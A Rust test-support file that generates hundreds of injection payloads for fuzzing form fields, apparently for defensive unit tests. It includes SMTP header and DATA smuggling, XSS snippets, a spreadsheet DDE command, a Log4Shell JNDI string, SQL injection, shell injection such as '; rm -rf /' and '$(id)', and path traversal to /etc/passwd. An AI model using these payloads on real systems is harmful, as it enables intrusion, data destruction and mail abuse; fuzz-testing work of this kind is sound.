//! Injection payloads for mail, terminals, spreadsheets and web pages, for any form field.
//!
//! Uses the standard library only, so that unit tests can include the file.

/// All payloads: at least 500, all distinct. Not every field accepts every payload.
pub fn payloads() -> Vec<String> {
    let mut payloads: Vec<String> = FRAGMENTS.iter().map(|fragment| (*fragment).to_owned()).collect();
    for fragment in FRAGMENTS {
        payloads.push(format!("Ada{fragment}"));
        payloads.push(format!("{fragment} Lovelace"));
        payloads.push(format!("Grüße {fragment} 你好"));
    }
    for line_break in LINE_BREAKS {
        for line in LINES {
            payloads.push(format!("Ada{line_break}{line}"));
            payloads.push(format!("Ada{line_break}{line}{line_break}{line_break}more"));
        }
    }
    for local in LOCAL_PARTS {
        for domain in DOMAINS {
            payloads.push(format!("{local}@{domain}"));
        }
    }
    for long in ["x", ".", "=", "ü", "\u{202e}", "😀", "a ", "\t", "=?", "--"] {
        payloads.push(long.repeat(190 / long.chars().count()));
        payloads.push(long.repeat(2_500 / long.chars().count()));
        payloads.push(format!("{}\r\n.\r\n{}", long.repeat(998), long.repeat(998)));
    }
    payloads.sort();
    payloads.dedup();
    payloads
}

const LINE_BREAKS: &[&str] = &[
    "\r\n", "\n", "\r", "\n\r", "\r\r\n", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", "%0d%0a",
    "\\r\\n",
];

/// Payloads that are harmful at the beginning of a line.
const LINES: &[&str] = &[
    "Bcc: victim@example.org",
    "Cc: victim@example.org\r\nSubject: other",
    "To: <victim@example.org>",
    "From: ceo@example.com",
    "Reply-To: thief@example.org",
    "Content-Type: text/html\r\n\r\n<h1>other</h1>",
    "Content-Transfer-Encoding: binary",
    "MIME-Version: 1.0",
    "X-Frontdesk-Id: 0",
    ".",
    "..",
    ".\r\nMAIL FROM:<thief@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nother\r\n.\r\nQUIT",
    ".\nRSET",
    "From thief@example.org Thu Jan  1 00:00:00 1970",
    "--boundary",
    "--=_0123456789abcdef0123456789abcdef--",
    "--=_\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment\r\n\r\nevil",
    "-- ",
    "Id: 00000000-0000-0000-0000-000000000000",
    "begin 644 evil.exe",
];

const LOCAL_PARTS: &[&str] = &[
    "ada",
    "ada+tag",
    "a.b.c",
    "!#$%&'*+-/=?^_`{|}~",
    "=?utf-8?q?ada?=",
    "\"a b\"",
    "\"a@b\"",
    "\"a\\\"b\"",
    "\"a\\\\\"",
    "\"<script>\"",
    "\"a>, <victim@example.org\"",
    "\"a,b;c:d\"",
    "\"(comment)\"",
    "\" \"",
    "\"\"",
    "\"a\r\nBcc: victim@example.org\"",
    "\"a\\\r\nb\"",
    "-oQ/tmp",
    "ada\r\nBcc: victim@example.org\r\n",
    "ada> ORCPT=x",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "\"a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a\"",
];

const DOMAINS: &[&str] = &[
    "example.com",
    "[192.0.2.1]",
    "[IPv6:2001:db8::1]",
    "xn--bcher-kva.example",
    "example.com>\r\nDATA",
    "a23456789012345678901234567890123456789012345678901234567890123.b23456789012345678901234567890123456789012345678901234567890123.example.com",
];

const FRAGMENTS: &[&str] = &[
    // Line and message endings
    "\r\n.\r\n",
    "\n.\n",
    "\r.\r",
    "\r\n.\n",
    "\n.\r\n",
    "\r\n..\r\n",
    "\r\n",
    "\r",
    "\n",
    ".",
    "..",
    "\0",
    "\r\n\0.\r\n",
    // Terminals
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]8;;https://example.org\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m",
    "\u{9d}0;title\u{9c}",
    "\u{90}q\u{9c}",
    "\u{8}\u{8}\u{8}",
    "\u{7f}",
    "\u{7}",
    "\t",
    "\u{1}\u{2}\u{3}\u{1f}",
    // Characters that reorder or hide text
    "\u{202e}gpj.exe",
    "\u{202a}\u{202b}\u{202c}\u{202d}",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "\u{200e}\u{200f}\u{61c}",
    "a\u{200b}b\u{200c}c\u{200d}d",
    "\u{feff}",
    "\u{ad}",
    "\u{2060}\u{2061}\u{2063}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "\u{180e}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{2028}\u{2029}",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
    "\u{d7ff}\u{e000}",
    "مرحبا שלום",
    // Pages
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://example.org/pixel.gif\">",
    "</bdi></dd></dl><h1>other</h1>",
    "</title><script>alert(1)</script>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "&amp;",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<style>*{display:none}</style>",
    "<base href=https://example.org>",
    "<meta http-equiv=refresh content=0>",
    "<a href=https://example.org>click</a>",
    "+ADw-script+AD4-",
    // Headers
    "=?utf-8?q?=0D=0ABcc:_victim=40example.org?=",
    "=?utf-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?=",
    "=?us-ascii?Q?a?= =?us-ascii?Q?b?=",
    "=?iso-8859-1?q?=E9?=",
    "=?utf-8?q?",
    "?=",
    "=0D=0A",
    "=\r\n",
    "=20",
    "Subject: other",
    "<victim@example.org>",
    "ada@example.com, victim@example.org",
    "ada@example.com\r\nBcc: victim@example.org",
    "(comment)",
    "\"quoted\"",
    "\\",
    "name*=utf-8''x",
    "boundary=\"x\"",
    "--=_",
    "----",
    // Spreadsheets
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=HYPERLINK(\"https://example.org\",\"click\")",
    "\t=1+1",
    // Templates, formats, logs
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "%s%s%s%n",
    "%00",
    "${jndi:ldap://example.org/a}",
    "$(id)",
    // Data
    "\"}],\"admin\":true,[{\"",
    "{\"a\":{\"a\":{\"a\":1}}}",
    "\\u0000",
    "'; DROP TABLE submissions; --",
    "' OR '1'='1",
    "1) UNION SELECT 1,2,3 --",
    "NULL",
    "[]",
    // Shells and paths
    "; rm -rf /",
    "| mail victim@example.org",
    "`id`",
    "&& id",
    "../../../../etc/passwd",
    "C:\\Windows\\system32",
    "-oProxyCommand=id",
    "--help",
    "~!mail",
    "$HOME",
    "file:///etc/passwd",
];
